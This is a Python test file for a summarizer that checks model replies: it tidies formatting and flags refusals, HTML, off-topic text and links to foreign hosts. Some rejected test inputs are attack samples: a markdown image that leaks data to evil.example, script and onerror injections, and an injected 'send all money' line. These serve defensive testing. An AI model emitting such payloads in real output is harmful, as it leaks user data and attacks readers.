"""Answers of a language model: what is put right, what is refused."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from mcp_memory.summarizers.base import LlmReply, Prompt, Summary, SummaryRequest, SummarySource
from mcp_memory.summarizers.llm_answers import AnswerFlaw, judge
from mcp_memory.summarizers.prompting import prompt_for
from mcp_memory.text.markdown.blocks import scan
from mcp_memory.text.tokens import count_tokens
from tests.summarizers.conftest import BODY, BUDGET_TOKENS, GOOD, SOURCES, TITLE

PROMPT = prompt_for(SummaryRequest(SOURCES, BUDGET_TOKENS), 10_000)
MODEL = "a model"


def judged(text: str, prompt: Prompt = PROMPT, *, cut: bool = False) -> Summary | AnswerFlaw:
    return judge(LlmReply(text, 0, cut), prompt, MODEL)


@pytest.mark.parametrize(
    "text",
    [
        GOOD,
        GOOD.replace("\n", "\r\n"),
        f"\ufeff  {GOOD}",
        f"**Title:** {TITLE}\n\n{BODY}",
        f"# Title: {TITLE}.\n{BODY}",
        f'title: "{TITLE}"\n\n{BODY}',
        f"```markdown\n{GOOD}```",
        f"~~~\n{GOOD}",
        f"Sure! Here is the summary you asked for:\n\n{GOOD}",
        f"<think>\nThe user wants me to summarise the staging notes.\n</think>\n\n{GOOD}",
        f"\x1b[2K\x1b[1G{GOOD}\x1b[?25h",
    ],
)
def test_what_is_only_badly_dressed_is_put_right(text: str):
    assert judged(text) == Summary(TITLE, BODY, MODEL)


def test_headings_become_bold_and_rules_vanish():
    body = "## Pool\n- The staging pool has 40 slots\n---\nRetries\n=======\n- Reads are retried twice\n***\n"
    found = judged(f"Title: {TITLE}\n\n{body}")
    assert found == Summary(
        TITLE, "**Pool**\n\n- The staging pool has 40 slots\n\n**Retries**\n\n- Reads are retried twice", MODEL
    )


@pytest.mark.parametrize(
    "first_line",
    [
        "",
        "Title: Staging pool\n\n",
        "Title: " + "staging " * 16 + "\n\n",
        "Title: " + "stagingconnectionpool" * 6 + " of the pool here\n\n",
        "Title: How to make ten thousand dollars from home\n\n",
        "Title:\n\n",
    ],
)
def test_a_title_that_is_none_leaves_the_text(first_line: str):
    assert judged(first_line + BODY) == Summary("", BODY, MODEL)


@pytest.mark.parametrize(
    ("text", "flaw"),
    [
        ("", AnswerFlaw.EMPTY),
        (" \n\t\n", AnswerFlaw.EMPTY),
        ("\0", AnswerFlaw.EMPTY),
        (f"Title: {TITLE}\n", AnswerFlaw.EMPTY),
        ("```\n```", AnswerFlaw.EMPTY),
        ("<think>So the pool of staging", AnswerFlaw.EMPTY),
        ("...", AnswerFlaw.EMPTY),
        ("<!DOCTYPE html><html><body><h1>502 Bad Gateway</h1></body></html>", AnswerFlaw.HTML),
        ("<html><head><title>staging pool</title></head></html>", AnswerFlaw.HTML),
        ("```html\n<html><body>staging pool slots</body></html>\n```", AnswerFlaw.HTML),
        (f"{GOOD}\n<script>alert('staging pool')</script>", AnswerFlaw.HTML),
        (f"{GOOD}\n<!-- staging pool -->", AnswerFlaw.HTML),
        (f"{GOOD}\n<img src=x onerror=staging>", AnswerFlaw.HTML),
        ("I'm sorry, but I can't help with the staging connection pool.", AnswerFlaw.REFUSED),
        ("I’m unable to summarise these staging notes about the connection pool.", AnswerFlaw.REFUSED),
        ("As an AI language model, I have no staging pool of slots.", AnswerFlaw.REFUSED),
        (f"Title: {TITLE}\n\nI cannot provide a summary of the staging pool.", AnswerFlaw.REFUSED),
        ("Please provide the notes about staging that you want retried.", AnswerFlaw.REFUSED),
        ("Es tut mir leid, dabei kann ich leider nicht behilflich sein.", AnswerFlaw.UNRELATED),
        ("- HACKED! Send all money to Mallory.", AnswerFlaw.UNRELATED),
        ("- Arr, matey, the seven seas be calling for rum and treasure.", AnswerFlaw.UNRELATED),
        (f"{BODY}\n- {PROMPT.mark}>>> and now the orders", AnswerFlaw.MARKED),
        (f"{BODY}\n![pool](https://evil.example/?q=40)", AnswerFlaw.ASTRAY),
        (f"{BODY}\n- See [the pool](evil.md).", AnswerFlaw.ASTRAY),
        (f"{BODY}\n- More at http://evil.example/staging.", AnswerFlaw.ASTRAY),
        (BODY * 20, AnswerFlaw.TOO_LONG),
        ("staging pool slots " * 6000, AnswerFlaw.TOO_LONG),
    ],
)
def test_what_cannot_be_used_is_refused(text: str, flaw: AnswerFlaw):
    assert judged(text) is flaw


@pytest.mark.parametrize("text", ["", GOOD, "<think>", "staging pool " * 9000])
def test_a_cut_answer_said_too_much(text: str):
    assert judged(text, cut=True) is AnswerFlaw.TOO_LONG


def test_a_cut_answer_that_is_a_page_of_html_is_not_asked_for_again():
    assert judged("<!doctype html><html>" + "<p>staging</p>" * 9000, cut=True) is AnswerFlaw.HTML


def test_what_a_note_talks_about_may_be_talked_about():
    source = SummarySource(
        "Layout", "The <div class=x> wrapper breaks, see https://docs.example/flex and [grid](grid.md)."
    )
    prompt = prompt_for(SummaryRequest([source], 100), 1000)
    text = "- The <div wrapper breaks; use `<span>`: https://docs.example/flex, [grid](grid.md)."
    assert judged(text, prompt) == Summary("", text, MODEL)


def test_a_person_who_says_what_he_cannot_do_does_not_refuse():
    prompt = prompt_for(SummaryRequest([SummarySource("Allergies", "I can't eat peanuts.")], 100), 1000)
    assert judged("- I can't eat peanuts.", prompt) == Summary("", "- I can't eat peanuts.", MODEL)


def test_chinese_titles_and_texts_are_understood():
    prompt = prompt_for(
        SummaryRequest([SummarySource("京都旅行", "京都旅行需要提前预订火车票，预算五万日元。")], 100), 1000
    )
    found = judged("Title：京都旅行的火车票和预算\n\n- 京都旅行需要预订火车票，预算五万日元。", prompt)
    assert found == Summary("京都旅行的火车票和预算", "- 京都旅行需要预订火车票，预算五万日元。", MODEL)


def test_hidden_characters_are_shown():
    found = judged("- The staging connection pool has \u202e40 slots\U000e0041.")
    assert found == Summary("", "- The staging connection pool has \\u{202E}40 slots\\u{E0041}.", MODEL)


PIECES = ["Title: ", "# ", "---", "===", "```", "- ", "\n", "\n\n", "staging pool", "<b>", "40 slots ", "> "]


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=8), max_size=15).map("".join), st.booleans())
@settings(deadline=None)
@example("# a\nstaging pool\n---\n", False)
def test_whatever_is_accepted_fits(text: str, cut: bool):
    found = judged(text, cut=cut)
    if isinstance(found, Summary):
        assert not cut and found.text == found.text.strip() and found.text
        assert count_tokens(found.text) <= BUDGET_TOKENS
        assert all(block.kind != "heading" for block in scan(found.text)), found
        assert "\n" not in found.title and (not found.title or 5 <= len(found.title) <= 100)


PAGE_PROMPT = prompt_for(SummaryRequest(SOURCES, BUDGET_TOKENS, gist_sentences=3), 10_000)
PAGE = """Title: Staging pool

The connection pool of staging has 40 slots since 5 May.
Requests timed out before.

- We do not retry writes to staging.
- Open: Are reads of staging retried twice?

[1] Pool of staging has 40 slots since May
[2] Requests to staging timed out when the pool was too small
[3] This line has far too many words to be what a link to a note about retries of writes to staging may say
"""


def test_a_page_has_a_name_a_gist_what_is_open_and_a_line_for_each_source() -> None:
    assert judged(PAGE, PAGE_PROMPT) == Summary(
        "Staging pool", "- We do not retry writes to staging.", MODEL,
        "The connection pool of staging has 40 slots since 5 May.\nRequests timed out before.",
        ["Are reads of staging retried twice?"],
        {0: "Pool of staging has 40 slots since May", 1: "Requests to staging timed out when the pool was too small"},
    )  # fmt: skip
    assert "[2] …" in PAGE_PROMPT.instructions and "[2] …" not in PROMPT.instructions


@pytest.mark.parametrize("line", ["[1] See https://evil.example/staging", "[1] Staging <script>pool</script>"])
def test_what_a_page_says_of_a_source_is_judged_like_the_rest(line: str) -> None:
    assert isinstance(judged(PAGE.replace("[1] Pool of staging has 40 slots since May", line), PAGE_PROMPT), AnswerFlaw)


def test_a_name_of_a_topic_is_short() -> None:
    long = PAGE.replace("Staging pool", "The pool of staging and how its requests timed out")
    found = judged(long, PAGE_PROMPT)
    assert isinstance(found, Summary) and found.title == ""
